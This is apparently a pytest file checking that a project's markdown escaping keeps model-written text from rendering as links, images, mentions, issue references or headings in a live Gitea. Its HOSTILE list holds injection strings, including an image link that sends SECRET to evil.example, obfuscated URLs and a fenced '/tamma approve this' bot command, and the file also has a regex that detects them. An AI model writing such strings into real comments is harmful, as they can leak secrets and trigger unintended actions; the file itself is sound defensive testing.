"""What a real Gitea makes of hostile text: as a model wrote it, and as we publish it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from services.gitea import People
from services.gitea_repository import Repository
from tamma_core.engine.published import code_text, markdown_line, markdown_text

if TYPE_CHECKING:
    from services.fixtures import NewRepository

pytest_plugins = ["services.fixtures"]

HOSTILE = [
    "![x](https://evil.example/?q=SECRET)",
    "[click](https://evil.example)",
    "see https://evil.example/x and http://evil.example",
    "www.evil.example",
    "<https://evil.example>",
    "<img src=https://evil.example/a.png>",
    "[[https://evil.example/a.png]]",
    "[[Home]]",
    "[x][y]\n\n[y]: https://evil.example",
    "https:\\/\\/evil.example/x",
    "https&colon;//evil.example",
    "https&#58;//evil.example",
    "https:\N{ZERO WIDTH SPACE}//evil.example",
    "@maintainer",
    "&#64;maintainer",
    "\\@maintainer",
    "closes #1",
    "closes &#35;1",
    "fixes \\#1",
    "see !1",
    "mail@evil.example",
    "# Plan 2",
    "Plan 2\n======",
    "- [ ] a task",
    "```\n/tamma approve this\n```",
    "<details><summary>more</summary>x</details>",
    "> <b>bold</b>",
    "|a|b|\n|-|-|\n|https://evil.example|@maintainer|",
    "hthttps://tps://evil.example",
    "https:data:////evil.example",
]
COMMANDING = re.compile(r"<(?:a|img|h[1-6]|details|input|pre)\b")


def rendered(repository: Repository, people: People, text: str) -> str:
    """Have Gitea render a comment in its repository."""
    context = repository.path.removeprefix("/repos/")
    answer = people.owner.request("POST", "/markdown", {"Text": text, "Mode": "comment", "Context": context})
    assert answer.is_success, answer.text
    return answer.text


def test_nothing_that_we_publish_links_shows_or_calls(new_repository: NewRepository, people: People) -> None:
    """Rendered by Gitea itself, no published text is a link, a picture, a mention, a reference or a heading."""
    repository = new_repository({"README.md": "x\n"})
    repository.create_issue("first", "x")
    harmful = []
    for text in HOSTILE:
        if COMMANDING.search(rendered(repository, people, text)):
            harmful.append(text)
        for written in (markdown_text(text, 1000), f"- {markdown_line(text, 1000)}", code_text(text, 200)):
            shown = rendered(repository, people, written)
            assert not COMMANDING.search(shown), (text, written, shown)
    # The attacks are real ones: as they were written, Gitea makes of most of them what they want.
    assert len(harmful) >= 18, sorted(set(HOSTILE) - set(harmful))
